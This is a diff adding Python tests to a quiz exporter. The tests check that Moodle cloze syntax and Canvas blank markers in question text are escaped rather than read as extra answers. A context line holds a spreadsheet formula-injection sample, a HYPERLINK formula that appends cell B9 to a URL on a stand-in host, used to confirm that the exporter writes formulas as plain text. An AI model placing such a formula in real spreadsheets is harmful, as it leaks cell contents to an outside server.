@@ -436,6 +436,23 @@ def test_moodle_embedded_answers_write_special_characters_as_character_reference
     assert html.unescape(embedded) == answer
 
 
+def test_moodle_cloze_text_cannot_hold_an_embedded_answer_of_its_own():
+    """Moodle reads any {n:TYPE:…} in a cloze question's text as a subquestion; the article's braces are references."""
+    item = _cloze_item("The code {1:SHORTANSWER:=x} was set by {{c1::Ann}}.")
+    text = ET.fromstring(dump_moodle_xml(_quiz_of(item))).find("question[@type='cloze']").findtext(
+        "questiontext/text")
+    assert len(re.findall(r"\{\d*:(?:SHORTANSWER|MULTICHOICE|NUMERICAL|SA|MC|NM)", text)) == 1
+    filled = html.unescape(re.sub(r"\{1:SHORTANSWER:=Ann\}", "Ann", text))
+    assert filled == "The code {1:SHORTANSWER:=x} was set by Ann."
+
+
+def test_canvas_blank_names_in_article_text_are_not_blanks():
+    item = _cloze_item("See [blank2] and [x] by {{c1::Ann}}.")
+    text = _qti_assessment(_quiz_of(item)).find(f".//{QTI}presentation/{QTI}material/{QTI}mattext").text
+    assert re.findall(r"\[(\w+)\]", text) == ["blank1"]
+    assert html.unescape(re.sub(r"<[^>]+>", "", text)) == "See [blank2] and [x] by [blank1]."
+
+
 def test_kahoot_writes_text_cells_never_formulas():
     """Defect 7 (and issue 15 finding 5): a question beginning with '=' stays text."""
     formula = '=HYPERLINK("http://example.org/?"&B9, "Click")'
